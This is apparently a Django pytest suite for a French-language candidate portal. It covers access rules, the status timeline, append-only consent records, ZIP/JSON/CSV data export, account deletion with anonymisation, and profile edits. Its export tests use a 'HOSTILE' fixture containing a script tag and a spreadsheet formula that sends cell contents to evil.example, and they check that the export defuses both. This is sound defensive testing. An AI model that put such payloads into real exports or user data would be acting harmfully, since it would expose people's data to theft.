import csv
import datetime
import html
import io
import json
import zipfile

import pytest
from allauth.account.models import EmailAddress
from django.core.files.base import ContentFile
from django.test import Client
from django.urls import NoReverseMatch, reverse
from django.utils.functional import empty

from accounts.models import User
from candidates.consents import CONSENT_TEXTS
from candidates.models import Candidate, CandidateEvent, CandidateStatus, CandidateTarget, Consent, TerritoryProposal
from candidates.services import candidate_set_consents, candidate_set_status
from common.storage import private_storage
from referrals.history import transition_text
from referrals.models import Referral, ReferralStatus, ReferralTransition
from referrals.services import referral_accept, referral_decline, referral_send
from tests.factories import (
    PASSWORD,
    AgentFactory,
    CandidateFactory,
    ReferralFactory,
    TerritoryFactory,
)
from tests.history import text_of
from tests.journeys import declined_then_accepted

pytestmark = pytest.mark.django_db

MY_FILE = reverse("my_file:home")
CONSENTS = reverse("my_file:consents")
EXPORT = reverse("my_file:export")
DELETE = reverse("my_file:delete")
ALL_PAGES = [MY_FILE, CONSENTS, EXPORT, DELETE]

ALL_GIVEN = {"coaching": "on", "sharing": "on"}


@pytest.fixture
def candidate(territory):
    return CandidateFactory(first_name="Amina", last_name="Diallo", target_territory=territory, mature=True)


@pytest.fixture
def signed_in(client, candidate):
    client.force_login(candidate.user)
    return client


@pytest.fixture
def media(settings, tmp_path):
    """CVs written under tmp_path, never under the real MEDIA_ROOT."""
    settings.MEDIA_ROOT = tmp_path
    private_storage._wrapped = empty
    yield tmp_path
    private_storage._wrapped = empty


def text(response) -> str:
    return html.unescape(response.content.decode())


def consent_rows(candidate) -> list[tuple]:
    return list(
        Consent.objects.filter(candidate=candidate)
        .order_by("created_at", "id")
        .values_list("pk", "purpose", "granted", "text_version", "method")
    )


# --- Who may open the pages --------------------------------------------------------------------


@pytest.mark.parametrize("url", ALL_PAGES)
def test_anonymous_visitor_is_sent_to_sign_in(client, url):
    response = client.get(url)

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("account_login"))


@pytest.mark.parametrize("url", ALL_PAGES)
def test_an_account_without_a_file_gets_a_404(client, counsellor, url):
    client.force_login(counsellor)

    assert client.get(url).status_code == 404


@pytest.mark.parametrize("url", [CONSENTS, DELETE])
def test_an_account_without_a_file_cannot_post(client, counsellor, url):
    client.force_login(counsellor)

    assert client.post(url, {**ALL_GIVEN, "confirm": "on", "password": PASSWORD}).status_code == 404
    assert User.objects.filter(pk=counsellor.pk).exists()


@pytest.mark.parametrize("url", [EXPORT, MY_FILE])
def test_other_methods_are_refused(signed_in, url):
    assert signed_in.post(url).status_code == 405


@pytest.mark.parametrize("url", [CONSENTS, DELETE])
def test_posts_without_csrf_token_are_refused(candidate, url):
    client = Client(enforce_csrf_checks=True)
    client.force_login(candidate.user)
    rows = consent_rows(candidate)

    response = client.post(url, {"news": "on", "confirm": "on", "password": PASSWORD})

    assert response.status_code == 403
    assert consent_rows(candidate) == rows
    assert User.objects.filter(pk=candidate.user.pk).exists()


# --- The page ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("status", "expected"),
    [
        ("new", "vous contactera d'ici 5 jours ouvrables"),
        ("coaching", "Votre conseiller·ère vous accompagne pour préparer votre projet"),
        ("taken_on", "Un·e agent·e Place aux jeunes vous accompagne maintenant"),
        ("moved", "Bienvenue dans votre région"),
        ("settled", "Vous êtes bien installé·e dans votre région"),
        ("on_hold", "Votre dossier est en pause"),
        ("closed", "Votre dossier est fermé"),
    ],
)
def test_the_page_says_what_comes_next_for_each_status(client, status, expected):
    candidate = CandidateFactory(status=status)
    client.force_login(candidate.user)

    response = client.get(MY_FILE)

    assert response.status_code == 200
    page = text(response)
    assert expected in page
    assert candidate.get_status_display() in page


def test_a_referred_file_names_the_territory_studying_it(signed_in, candidate, territory, counsellor):
    referral_send(candidate=candidate, territories=[territory], by=counsellor, message="Note pour l'agent·e")

    page = text(signed_in.get(MY_FILE))

    assert f"L'agent·e Place aux jeunes du territoire {territory.name} étudie votre dossier" in page
    assert "Note pour l'agent·e" not in page


def test_a_draft_is_sent_back_to_the_step_it_reached(client):
    candidate = CandidateFactory(status=CandidateStatus.DRAFT, registration_step=3)
    client.force_login(candidate.user)

    response = client.get(MY_FILE)

    assert "Votre inscription n'est pas terminée" in text(response)
    try:
        url = reverse("candidates:registration_step", args=[3])
    except NoReverseMatch:  # the registration's pages are not there yet
        assert response.context["registration_url"] is None
    else:
        assert response.context["registration_url"] == url
        assert f'href="{url}"' in response.content.decode()


def test_the_timeline_tells_the_whole_path_in_order_and_nothing_internal(client, counsellor):
    first, second = TerritoryFactory(name="Haute-Gaspésie"), TerritoryFactory(name="Témiscamingue")
    AgentFactory(territories=[first])
    agent = AgentFactory(territories=[second], first_name="Julie", last_name="Pelletier")
    candidate = CandidateFactory(target_territory=first, more_targets=[second], mature=True)
    CandidateEvent.objects.create(candidate=candidate, kind="registered", to_status="new", note="Note interne 1")
    candidate_set_status(candidate=candidate, to=CandidateStatus.COACHING, by=counsellor, note="Note interne 2")
    declined = referral_send(candidate=candidate, territories=[first], by=counsellor, message="Message à l'agent·e")
    referral_decline(referral=declined, agent=first.agents.get(), category="other", reason="Raison du refus")
    candidate.refresh_from_db()
    accepted = referral_send(candidate=candidate, territories=[second], by=counsellor)
    referral_accept(referral=accepted, agent=agent)
    client.force_login(candidate.user)

    response = client.get(MY_FILE)

    labels = [entry.label for entry in response.context["timeline"]]
    assert labels == [
        "Création de votre dossier",
        "Accompagnement par un·e conseiller·ère d'Emplois en régions",
        "Dossier orienté vers le territoire Haute-Gaspésie",
        "Le territoire Haute-Gaspésie n'a pas pu donner suite. Votre conseiller·ère reprend votre dossier avec vous.",
        "Dossier orienté vers le territoire Témiscamingue",
        "Julie Pelletier, agent·e Place aux jeunes du territoire Témiscamingue, a accepté votre dossier",
    ]
    dates = [entry.at for entry in response.context["timeline"]]
    assert dates == sorted(dates)
    page = text(response)
    for label in labels:
        assert label in page
    for internal in ("Note interne", "Message à l'agent·e", "Raison du refus"):
        assert internal not in page


def test_after_a_decline_the_timeline_tells_the_file_went_on_to_the_next_territory_in_order(client):
    """A list of two: the first declines, the second receives the referral then, and accepts. The
    history says the file went on (not that the counsellor takes it back), and the second
    territory's referral comes after the first one's decline, dated by when it was sent."""
    journey = declined_then_accepted(steps=())
    client.force_login(journey.candidate.user)

    entries = client.get(MY_FILE).context["timeline"]

    assert [entry.label for entry in entries] == [
        "Dossier orienté vers le territoire Alpha",
        "Le territoire Alpha n'a pas pu donner suite. Votre dossier passe au territoire suivant de votre liste : Beta.",
        "Dossier orienté vers le territoire Beta",
        "Béa Lemay, agent·e Place aux jeunes du territoire Beta, a accepté votre dossier",
    ]
    journey.second.refresh_from_db()
    assert entries[2].at == journey.second.sent_at
    assert [entry.at for entry in entries] == sorted(entry.at for entry in entries)
    assert "reprend votre dossier" not in text(client.get(MY_FILE))


def test_a_territory_further_down_the_list_is_not_told_before_it_receives_the_referral(client, counsellor):
    first, second = TerritoryFactory(name="Alpha"), TerritoryFactory(name="Beta")
    AgentFactory(territories=[first])
    AgentFactory(territories=[second])
    candidate = CandidateFactory(
        target_territory=first, more_targets=[second], mature=True, status=CandidateStatus.COACHING
    )
    referral = referral_send(candidate=candidate, territories=[first, second], by=counsellor)
    client.force_login(candidate.user)

    assert [e.label for e in client.get(MY_FILE).context["timeline"]] == ["Dossier orienté vers le territoire Alpha"]

    referral_accept(referral=referral, agent=first.agents.get())  # Beta's turn never comes
    labels = [e.label for e in client.get(MY_FILE).context["timeline"]]
    assert labels[-1].endswith("du territoire Alpha, a accepté votre dossier")
    assert not any("Beta" in label for label in labels)


def test_the_timeline_tells_a_referral_under_review_once_and_the_deadline(client, counsellor, settings):
    from referrals.services import referral_extend_deadline, referral_mark_under_review

    territory = TerritoryFactory(name="Kamouraska")
    agent = AgentFactory(territories=[territory])
    candidate = CandidateFactory(target_territory=territory, mature=True, status=CandidateStatus.COACHING)
    referral = referral_send(candidate=candidate, territories=[territory], by=counsellor)
    referral_mark_under_review(referral=referral, agent=agent)
    referral = referral_extend_deadline(referral=referral, agent=agent)
    client.force_login(candidate.user)

    response = client.get(MY_FILE)

    labels = [entry.label for entry in response.context["timeline"]]
    assert labels[-2:] == [
        "Dossier orienté vers le territoire Kamouraska",
        "Le territoire Kamouraska étudie votre dossier",  # once: the deadline pushed back is not a step
    ]
    assert response.context["pending_referral"] == referral
    assert "doit répondre d'ici le" in text(response)


def test_the_timeline_uses_the_referrals_own_dates_when_they_have_no_log(signed_in, candidate):
    referral = ReferralFactory(candidate=candidate, status=ReferralStatus.EXPIRED)

    entries = signed_in.get(MY_FILE).context["timeline"]

    assert [e.kind for e in entries] == ["referral_sent", "referral_expired"]
    assert entries[-1].at == referral.expires_at


def test_withdrawing_a_consent_is_not_told_as_a_change_of_status(signed_in, candidate):
    candidate_set_consents(candidate=candidate, choices={"coaching": False}, method=Consent.Method.MY_FILE)

    assert signed_in.get(MY_FILE).context["timeline"] == []


def test_contact_is_nobody_yet_then_the_counsellor_then_the_agent(client, counsellor, territory):
    candidate = CandidateFactory(target_territory=territory, mature=True)
    client.force_login(candidate.user)

    assert "Pas encore attribuée" in text(client.get(MY_FILE))

    Candidate.objects.filter(pk=candidate.pk).update(counsellor=counsellor)
    response = client.get(MY_FILE)
    assert response.context["contact"].kind == "counsellor"
    assert counsellor.get_full_name() in text(response)
    assert counsellor.email not in text(response)

    referral = referral_send(candidate=candidate, territories=[territory], by=counsellor)
    agent = territory.agents.get()
    referral_accept(referral=referral, agent=agent)
    page = text(client.get(MY_FILE))
    contact = page.split("Ma personne-ressource")[1].split("Territoires visés")[0]
    assert str(agent) in contact
    assert agent.email in contact
    assert "(418) 555-0123" in contact  # the agent's "418 555-0123", in national format
    assert 'href="tel:+14185550123"' in client.get(MY_FILE).content.decode()
    assert counsellor.get_full_name() not in contact


@pytest.mark.parametrize("rows", [1, 50])
def test_page_query_count_does_not_grow_with_events_and_referrals(client, counsellor, django_assert_num_queries, rows):
    candidate = CandidateFactory(counsellor=counsellor)
    for _ in range(rows):
        CandidateEvent.objects.create(candidate=candidate, kind="status_changed", from_status="new", to_status="new")
        referral = ReferralFactory(candidate=candidate, status="declined")
        ReferralTransition.objects.create(referral=referral, from_status="", to_status="pending")
        ReferralTransition.objects.create(referral=referral, from_status="pending", to_status="declined")
    client.force_login(candidate.user)

    # session, user, candidate (with counsellor), targets, events, referrals, their transitions,
    # who read the file, the territory proposals waiting for an answer, the person's activities and
    # those of their territories, the programs they may be eligible for
    with django_assert_num_queries(12):
        response = client.get(MY_FILE)

    assert response.status_code == 200
    assert len(response.context["timeline"]) == 2 * rows


# --- Consents ----------------------------------------------------------------------------------


def test_consents_page_shows_each_purpose_and_its_current_state(signed_in):
    response = signed_in.get(CONSENTS)

    assert response.status_code == 200
    page = text(response)
    for purpose, label in Consent.Purpose.choices:
        assert str(label) in page
        assert str(CONSENT_TEXTS[purpose].text) in page
    assert page.count("Actuellement : donné le") == 2
    assert "Vous n'avez encore rien répondu" in page
    assert response.context["form"]["coaching"].value() is True
    assert response.context["form"]["news"].value() is False


@pytest.mark.parametrize("purpose", ["coaching", "sharing", "news"])
def test_giving_a_consent_appends_a_row(signed_in, candidate, purpose):
    Consent.objects.filter(candidate=candidate, purpose=purpose).delete()
    before = consent_rows(candidate)

    response = signed_in.post(CONSENTS, {**ALL_GIVEN, purpose: "on"})

    assert response.status_code == 302
    rows = consent_rows(candidate)
    assert rows[: len(before)] == before
    assert [row[1:] for row in rows[len(before) :]] == [
        (purpose, True, CONSENT_TEXTS[purpose].version, Consent.Method.MY_FILE)
    ]
    assert candidate.has_consent(purpose)


@pytest.mark.parametrize("purpose", ["coaching", "sharing"])
def test_withdrawing_a_consent_appends_a_row(signed_in, candidate, purpose):
    before = consent_rows(candidate)

    signed_in.post(CONSENTS, {p: "on" for p in ALL_GIVEN if p != purpose})

    rows = consent_rows(candidate)
    assert rows[: len(before)] == before
    assert [row[1:3] for row in rows[len(before) :]] == [(purpose, False)]
    assert not candidate.has_consent(purpose)


def test_the_history_is_append_only(signed_in, candidate):
    first = consent_rows(candidate)

    signed_in.post(CONSENTS, {"coaching": "on"})
    signed_in.post(CONSENTS, ALL_GIVEN)
    signed_in.post(CONSENTS, ALL_GIVEN)  # no change: nothing added

    rows = consent_rows(candidate)
    assert rows[:2] == first
    assert [row[1:3] for row in rows[2:]] == [("sharing", False), ("sharing", True)]
    page = text(signed_in.get(CONSENTS))
    assert page.count("Page « Mon dossier »") == 2


def test_withdrawing_coaching_warns_records_an_event_and_keeps_the_file_open(signed_in, candidate):
    response = signed_in.post(CONSENTS, {"sharing": "on"}, follow=True)

    assert "Emplois en régions ne peut plus vous accompagner" in text(response)
    candidate.refresh_from_db()
    assert candidate.status == CandidateStatus.NEW
    event = CandidateEvent.objects.get(candidate=candidate)
    assert (event.kind, event.actor) == (CandidateEvent.Kind.CONSENT_CHANGED, candidate.user)
    assert "accompagnement" in text_of(event)


def test_the_coaching_warning_is_on_the_page_before_withdrawing(signed_in):
    assert "Emplois en régions ne pourra plus vous accompagner" in text(signed_in.get(CONSENTS))


def test_withdrawing_sharing_withdraws_the_pending_referral(signed_in, candidate, territory, counsellor):
    referral = referral_send(candidate=candidate, territories=[territory], by=counsellor)

    response = signed_in.post(CONSENTS, {"coaching": "on"}, follow=True)

    assert "une orientation en attente de réponse est retirée" in text(response)
    referral.refresh_from_db()
    assert referral.status == ReferralStatus.WITHDRAWN
    transition = referral.transitions.last()
    assert (transition.from_status, transition.to_status, transition.by_user) == (
        "pending",
        "withdrawn",
        candidate.user,
    )
    candidate.refresh_from_db()
    assert candidate.status == CandidateStatus.COACHING
    assert not candidate.has_consent("sharing")


def test_withdrawing_sharing_leaves_an_answered_referral_alone(signed_in, candidate, territory, counsellor):
    referral = referral_send(candidate=candidate, territories=[territory], by=counsellor)
    referral_accept(referral=referral, agent=territory.agents.get())

    signed_in.post(CONSENTS, {"coaching": "on"})

    referral.refresh_from_db()
    candidate.refresh_from_db()
    assert referral.status == ReferralStatus.ACCEPTED
    assert candidate.status == CandidateStatus.TAKEN_ON
    assert not candidate.has_consent("sharing")


def test_consents_and_referral_change_together_or_not_at_all(signed_in, candidate, territory, counsellor, monkeypatch):
    referral = referral_send(candidate=candidate, territories=[territory], by=counsellor)
    rows = consent_rows(candidate)

    def broken(**kwargs):
        raise RuntimeError("boom")

    monkeypatch.setattr("referrals.receivers.referral_withdraw", broken)
    with pytest.raises(RuntimeError):
        signed_in.post(CONSENTS, {"coaching": "on"})

    assert consent_rows(candidate) == rows
    referral.refresh_from_db()
    assert referral.status == ReferralStatus.PENDING


# --- Export ------------------------------------------------------------------------------------

HOSTILE = {
    "last_name": '<script>alert("x")</script>',
    "goals": '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")',
    "interests": "+1+2",
    "occupation_field": "-2+3",
    "contact_times": "@SUM(1+1)",
}


@pytest.fixture
def full_candidate(territory, counsellor):
    second, third = TerritoryFactory(name="Second"), TerritoryFactory(name="Troisième")
    candidate = CandidateFactory(
        target_territory=territory,
        mature=True,
        first_name="Amina",
        phone="+14185550199",
        date_of_birth="1998-04-02",
        country_of_origin="SN",
        immigration_status="work_permit",
        years_experience=4,
        cv_filename="Mon CV.pdf",
        has_partner=True,
        **HOSTILE,
    )
    CandidateTarget.objects.create(candidate=candidate, territory=second, rank=2)
    CandidateTarget.objects.create(candidate=candidate, territory=third, rank=3)
    referral = referral_send(candidate=candidate, territories=[territory], by=counsellor, message="Message interne")
    referral_decline(referral=referral, agent=territory.agents.get(), category="other", reason="Raison interne")
    return Candidate.objects.get(pk=candidate.pk)


def exported(response) -> dict[str, bytes]:
    """The ZIP's members by name."""
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert response["Content-Disposition"].startswith('attachment; filename="mon-dossier-')
    assert response["Content-Disposition"].endswith('.zip"')
    assert "no-store" in response["Cache-Control"]
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_the_export_is_a_zip_with_the_data_and_the_cv(client, full_candidate, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "private"
    full_candidate.cv.save("stored.pdf", ContentFile(b"%PDF-1.4 the cv"), save=True)
    client.force_login(full_candidate.user)

    files = exported(client.get(EXPORT))

    assert set(files) == {"mon-dossier.json", "mon-dossier.csv", "cv/Mon CV.pdf"}
    assert files["cv/Mon CV.pdf"] == b"%PDF-1.4 the cv"


def test_json_export_is_complete_and_valid(client, full_candidate, territory):
    CandidateFactory(first_name="Quelqu'un d'autre", email="autre@example.org")
    client.force_login(full_candidate.user)

    files = exported(client.get(EXPORT))

    assert set(files) == {"mon-dossier.json", "mon-dossier.csv"}  # no CV file stored
    data = json.loads(files["mon-dossier.json"])
    profile = data["profile"]
    assert profile["first_name"] == {"label": "prénom", "value": "Amina", "text": "Amina"}
    for field, value in HOSTILE.items():
        assert profile[field]["value"] == value  # verbatim
    assert profile["immigration_status"]["value"] == "work_permit"
    assert profile["immigration_status"]["text"] == "Permis de travail"
    assert profile["country_of_origin"]["value"] == "SN"
    assert profile["date_of_birth"]["value"] == "1998-04-02"
    assert profile["phone"]["value"] == "+14185550199"
    assert profile["cv_filename"]["value"] == "Mon CV.pdf"
    assert "cv" not in profile and "user" not in profile and "counsellor" not in profile
    expected = {f.name for f in Candidate._meta.concrete_fields} - {
        "id",
        "user",
        "counsellor",
        "cv",
        "registration_step",
        "anonymized_at",
        "updated_at",
    }
    assert set(profile) == expected
    assert data["account"]["email"] == full_candidate.email
    assert [t["territory"] for t in data["targets"]] == [territory.name, "Second", "Troisième"]
    assert [(c["purpose"], c["granted"]) for c in data["consents"]] == [("coaching", True), ("sharing", True)]
    assert [r["status"] for r in data["referrals"]] == ["declined"]
    assert data["referrals"][0]["territory"] == territory.name
    assert [t["to_status"] for t in data["referrals"][0]["transitions"]] == ["pending", "declined"]
    assert data["timeline"] and data["events"]
    body = (files["mon-dossier.json"] + files["mon-dossier.csv"]).decode()
    for internal in ("Message interne", "Raison interne", "Quelqu'un d'autre", "autre@example.org"):
        assert internal not in body


def test_csv_export_has_one_row_per_field_and_defuses_formulas(client, full_candidate, territory):
    client.force_login(full_candidate.user)

    body = exported(client.get(EXPORT))["mon-dossier.csv"].decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[0] == ["champ", "libellé", "valeur"]  # in the reader's language (tests/common/test_exports_language.py)
    assert all(len(row) == 3 for row in rows)
    values = {row[0]: row for row in rows[1:]}
    assert values["first_name"] == ["first_name", "prénom", "Amina"]
    assert values["last_name"][2] == HOSTILE["last_name"]  # text, not a formula: verbatim
    for field in ("goals", "interests", "occupation_field", "contact_times"):
        assert values[field][2] == "'" + HOSTILE[field]
    assert values["phone"][2] == "'+14185550199"
    assert values["immigration_status"][2] == "Permis de travail"
    assert values["has_partner"][2] == "Oui"
    assert values["cv_filename"][2] == "Mon CV.pdf"
    assert values["targets.2.territory"][2] == "Second"
    assert values["consents.1.purpose"][2] == "coaching"
    assert values["referrals.1.status"][2] == "declined"
    assert "Message interne" not in body and "Raison interne" not in body


@pytest.mark.parametrize("rows", [1, 50])
def test_export_query_count_does_not_grow(client, counsellor, django_assert_num_queries, rows):
    candidate = CandidateFactory(counsellor=counsellor)
    for _ in range(rows):
        CandidateEvent.objects.create(candidate=candidate, kind="status_changed", from_status="new", to_status="new")
        referral = ReferralFactory(candidate=candidate, status="declined")
        ReferralTransition.objects.create(referral=referral, from_status="pending", to_status="declined")
        TerritoryProposal.objects.create(candidate=candidate, territory=TerritoryFactory(), message="Proposé")
    client.force_login(candidate.user)

    # session, user, own candidate, its targets; the reading's log entry; export: candidate with
    # user, targets, territory proposals, events, referrals, transitions, consents, activity
    # registrations
    with django_assert_num_queries(13):
        assert client.get(EXPORT).status_code == 200


# --- Deleting the account ----------------------------------------------------------------------


def test_delete_page_explains_and_changes_nothing(signed_in, candidate, territory, counsellor):
    referral_send(candidate=candidate, territories=[territory], by=counsellor)

    response = signed_in.get(DELETE)

    assert response.status_code == 200
    page = text(response)
    assert "La suppression est définitive" in page
    assert f"l'orientation en attente vers le territoire {territory.name} est retirée" in page
    # What truly remains, and what cannot be taken back.
    assert "vos sessions se ferment sur tous vos appareils" in page
    assert "notes de suivi" in page
    assert "Ce qui reste, sans votre nom ni vos coordonnées" in page
    assert "Les courriels déjà envoyés restent dans les boîtes de réception" in page
    assert 'type="password"' in page
    candidate.refresh_from_db()
    assert candidate.anonymized_at is None and candidate.user is not None
    assert Referral.objects.get().status == ReferralStatus.PENDING


@pytest.mark.parametrize(
    "data", [{}, {"password": PASSWORD}, {"confirm": "on"}, {"confirm": "on", "password": "pas le bon"}]
)
def test_delete_without_confirmation_is_refused(signed_in, candidate, data):
    response = signed_in.post(DELETE, data)

    assert response.status_code == 400
    candidate.refresh_from_db()
    assert candidate.anonymized_at is None
    assert candidate.first_name == "Amina"
    assert User.objects.filter(pk=candidate.user.pk).exists()
    assert not Consent.objects.filter(method=Consent.Method.ACCOUNT_DELETION).exists()


def test_delete_removes_the_account_anonymizes_the_file_and_signs_out(
    signed_in, candidate, territory, counsellor, media, django_capture_on_commit_callbacks
):
    Candidate.objects.filter(pk=candidate.pk).update(
        phone="+14185550199",
        date_of_birth="1998-04-02",
        country_of_origin="SN",
        goals="Travailler en région",
        interests="Plein air",
        contact_times="Le soir",
        years_experience=4,
        has_partner=True,
        children_count=2,
        cv_filename="Mon CV.pdf",
    )
    candidate.refresh_from_db()
    candidate.cv.save("cv", ContentFile(b"%PDF-1.4 fake"), save=True)
    cv_path = media / candidate.cv.name
    assert cv_path.exists()
    CandidateEvent.objects.create(candidate=candidate, kind="status_changed", to_status="new", note="Note interne")
    referral = referral_send(candidate=candidate, territories=[territory], by=counsellor, message="Message interne")
    user_pk, registered_at = candidate.user.pk, candidate.created_at

    with django_capture_on_commit_callbacks(execute=True):
        response = signed_in.post(DELETE, {"confirm": "on", "password": PASSWORD}, follow=True)

    assert response.redirect_chain == [(reverse("candidates:home"), 302)]
    assert "Votre compte est supprimé" in text(response)
    assert not User.objects.filter(pk=user_pk).exists()
    assert not EmailAddress.objects.filter(user_id=user_pk).exists()
    assert signed_in.get(MY_FILE).status_code == 302  # signed out
    assert not cv_path.exists()

    candidate.refresh_from_db()
    assert candidate.user is None
    assert (candidate.first_name, candidate.last_name) == ("Anonyme", "Anonyme")
    assert candidate.email == f"supprime-{candidate.pk}@invalid.pajr"
    for field in ("phone", "country_of_origin", "goals", "interests", "contact_times", "cv", "cv_filename"):
        assert not getattr(candidate, field), field
    for field in ("date_of_birth", "years_experience", "has_partner", "children_count"):
        assert getattr(candidate, field) is None, field
    # Kept for aggregate counts
    assert candidate.anonymized_at is not None
    assert candidate.profile_kind == "immigrant"
    assert candidate.created_at == registered_at
    assert list(candidate.targets.values_list("territory", flat=True)) == [territory.pk]
    assert candidate.status == CandidateStatus.CLOSED
    assert CandidateEvent.objects.filter(candidate=candidate, to_status="closed").exists()
    # The pending referral is withdrawn, every consent withdrawn, staff's writing cleared
    referral.refresh_from_db()
    assert referral.status == ReferralStatus.WITHDRAWN
    assert referral.message == ""
    assert transition_text(referral.transitions.last()) == "Compte supprimé par la personne"
    assert not ReferralTransition.objects.filter(reason="Message interne").exists()
    assert not CandidateEvent.objects.filter(note="Note interne").exists()
    withdrawals = Consent.objects.filter(candidate=candidate, method=Consent.Method.ACCOUNT_DELETION)
    # Each consent still given is recorded as withdrawn (the news were never accepted).
    assert sorted(withdrawals.values_list("purpose", "granted")) == [("coaching", False), ("sharing", False)]
    assert not any(candidate.has_consent(purpose) for purpose in ("coaching", "sharing", "news"))


def test_an_account_other_rows_protect_is_deactivated_and_anonymized_instead(signed_in, candidate):
    ReferralFactory(sent_by=candidate.user)  # Referral.sent_by is PROTECT
    user = candidate.user

    response = signed_in.post(DELETE, {"confirm": "on", "password": PASSWORD})

    assert response.status_code == 302
    user.refresh_from_db()
    assert not user.is_active
    assert not user.has_usable_password()
    assert user.email == f"supprime-utilisateur-{user.pk}@invalid.pajr"
    assert (user.first_name, user.last_name) == ("", "")
    assert not EmailAddress.objects.filter(user=user).exists()
    candidate.refresh_from_db()
    assert candidate.user is None and candidate.anonymized_at is not None


def test_delete_is_all_or_nothing(signed_in, candidate, territory, counsellor, monkeypatch):
    referral = referral_send(candidate=candidate, territories=[territory], by=counsellor)

    def broken(*args, **kwargs):
        raise RuntimeError("boom")

    monkeypatch.setattr(User, "delete", broken)
    with pytest.raises(RuntimeError):
        signed_in.post(DELETE, {"confirm": "on", "password": PASSWORD})

    candidate.refresh_from_db()
    referral.refresh_from_db()
    assert candidate.first_name == "Amina" and candidate.anonymized_at is None
    assert candidate.status == CandidateStatus.REFERRED
    assert referral.status == ReferralStatus.PENDING
    assert not Consent.objects.filter(method=Consent.Method.ACCOUNT_DELETION).exists()


def test_a_counsellor_cannot_delete_anothers_account(client, counsellor, candidate):
    client.force_login(counsellor)

    assert client.post(DELETE, {"confirm": "on", "password": PASSWORD}).status_code == 404
    candidate.refresh_from_db()
    assert candidate.anonymized_at is None


# --- Editing one's own details -----------------------------------------------------------------

IDENTITY = reverse("my_file:identity")


def test_the_page_links_to_each_part_of_the_profile(client):
    candidate = CandidateFactory(status=CandidateStatus.NEW)
    client.force_login(candidate.user)

    html = client.get(MY_FILE).content.decode()

    for url in (IDENTITY, *(reverse("candidates:registration_step", args=[step]) for step in (2, 3, 4))):
        assert f'href="{url}"' in html


def test_the_person_corrects_their_details(client):
    candidate = CandidateFactory(status=CandidateStatus.NEW, first_name="Amina", phone="")
    client.force_login(candidate.user)
    assert 'value="Amina"' in client.get(IDENTITY).content.decode()

    response = client.post(
        IDENTITY,
        {
            "first_name": "Aminata",
            "last_name": "Diallo",
            "date_of_birth": "1998-05-04",
            "phone": "418 555-0199",
            "language": "en",
        },
    )

    assert response["Location"] == MY_FILE
    candidate.refresh_from_db()
    assert (candidate.first_name, str(candidate.phone), candidate.language) == ("Aminata", "+14185550199", "en")
    candidate.user.refresh_from_db()
    assert (candidate.user.first_name, candidate.user.language) == ("Aminata", "en")


def test_the_date_of_birth_is_shown_and_corrected_in_three_parts(client):
    candidate = CandidateFactory(
        status=CandidateStatus.NEW, date_of_birth=datetime.date(1998, 3, 15), phone="+14185550123"
    )
    client.force_login(candidate.user)

    html = client.get(IDENTITY).content.decode()

    fieldset = html.split("<fieldset")[1].split("</fieldset>")[0]
    assert 'name="date_of_birth_0" value="15"' in fieldset
    assert '<option value="3" selected>mars</option>' in fieldset
    assert 'name="date_of_birth_2" value="1998"' in fieldset
    assert 'value="(418) 555-0123"' in html  # the stored +14185550123, as people read it
    response = client.post(
        IDENTITY,
        {
            "first_name": candidate.first_name,
            "last_name": candidate.last_name,
            "date_of_birth_0": "4",
            "date_of_birth_1": "5",
            "date_of_birth_2": "1997",
            "language": "fr-ca",
        },
    )
    assert response["Location"] == MY_FILE
    candidate.refresh_from_db()
    assert candidate.date_of_birth == datetime.date(1997, 5, 4)


def test_details_are_checked_as_at_registration(client):
    candidate = CandidateFactory(status=CandidateStatus.NEW, first_name="Amina")
    client.force_login(candidate.user)

    response = client.post(
        IDENTITY, {"first_name": "X\x1b", "last_name": "", "date_of_birth": "2030-01-01", "language": "fr-ca"}
    )

    assert response.status_code == 400
    html = response.content.decode()
    assert "caractères non permis" in html and "dans le futur" in html
    candidate.refresh_from_db()
    assert candidate.first_name == "Amina"


def test_details_page_needs_a_file_and_a_csrf_token(client, counsellor):
    from django.test import Client

    client.force_login(counsellor)
    assert client.get(IDENTITY).status_code == 404
    candidate = CandidateFactory()
    strict = Client(enforce_csrf_checks=True)
    strict.force_login(candidate.user)
    assert strict.post(IDENTITY, {"first_name": "Y"}).status_code == 403
